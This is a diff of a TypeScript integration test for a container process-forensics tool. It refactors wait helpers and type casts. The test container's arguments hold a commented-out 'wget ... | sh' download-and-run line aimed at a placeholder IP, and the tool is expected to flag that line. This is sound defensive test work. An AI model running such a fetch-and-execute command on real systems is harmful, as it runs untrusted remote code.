@@ -1,7 +1,8 @@
 import assert from 'node:assert/strict';
 import { after, before, describe, it } from 'node:test';
-import type { ProcessSampleEvent, ProcessSnapshotResult, ProcessWatchInfo } from '../../../shared/domain/processes';
-import { BUSYBOX, docker, eventually, removeContainers, runContainer, startTestCore, type TestCore } from '../../helpers/docker';
+import type { ProcessSampleEvent } from '../../../shared/domain/processes';
+import { BUSYBOX, docker, removeContainers, runContainer, startTestCore, type TestCore } from '../../helpers/docker';
+import { waitFor } from '../../helpers/wait';
 
 describe('process trees without exec', () => {
   let t: TestCore;
@@ -15,7 +16,7 @@ describe('process trees without exec', () => {
     id = runContainer(['--name', name, BUSYBOX, 'sh', '-c', 'sleep 1001 & sh -c "sleep 1002; true" & sh -c "sleep 1003; true # wget -qO- http://203.0.113.9/x | sh" & wait']);
     await t.call('hosts.add', { name: 'local', url: 'unix:///var/run/docker.sock' });
     await t.call('evidence.case-create', { name: 'Process case' });
-    await eventually('all processes started', () => docker(['top', id]).includes('sleep 1003') || undefined);
+    await waitFor(() => docker(['top', id]).includes('sleep 1003') || undefined, { what: 'all processes started' });
   });
 
   after(async () => {
@@ -24,7 +25,7 @@ describe('process trees without exec', () => {
   });
 
   it('builds the real tree with parent links and flags the download-and-run line', async () => {
-    const result = (await t.call('processes.snapshot', { host: 'local', container: name })) as ProcessSnapshotResult;
+    const result = await t.call('processes.snapshot', { host: 'local', container: name });
     const { snapshot } = result;
     const init = snapshot.processes.find((p) => p.isInit);
     assert.ok(init, 'the entrypoint is marked');
@@ -42,7 +43,7 @@ describe('process trees without exec', () => {
     assert.ok(dropper?.flags.some((f) => f.kind === 'download-exec'), 'wget | sh is flagged');
     assert.ok(snapshot.flagged.includes(dropper!.pid));
     assert.ok(result.stored, 'the snapshot is stored in the case');
-    const verify = (await t.call('evidence.verify', {})) as { ok: boolean };
+    const verify = await t.call('evidence.verify', {});
     assert.equal(verify.ok, true);
   });
 
@@ -51,10 +52,10 @@ describe('process trees without exec', () => {
     const off = t.core.events.subscribe((event, payload) => {
       if (event === 'processes.sample') samples.push(payload as ProcessSampleEvent);
     });
-    const watch = (await t.call('processes.watch', { host: 'local', container: name, intervalSeconds: 1 })) as ProcessWatchInfo;
+    const watch = await t.call('processes.watch', { host: 'local', container: name, intervalSeconds: 1 });
     try {
       docker(['exec', '-d', id, 'sleep', '1234']);
-      const appeared = await eventually('the exec-started process', () => samples.flatMap((s) => s.changes).find((c) => c.kind === 'appeared' && c.args === 'sleep 1234'), 30000);
+      const appeared = await waitFor(() => samples.flatMap((s) => s.changes).find((c) => c.kind === 'appeared' && c.args === 'sleep 1234'), { what: 'the exec-started process', timeoutMs: 30000 });
       const sample = samples.find((s) => s.changes.includes(appeared))!;
       const entry = sample.snapshot.processes.find((p) => p.pid === appeared.pid);
       assert.ok(entry?.execId, 'linked to the engine exec session');
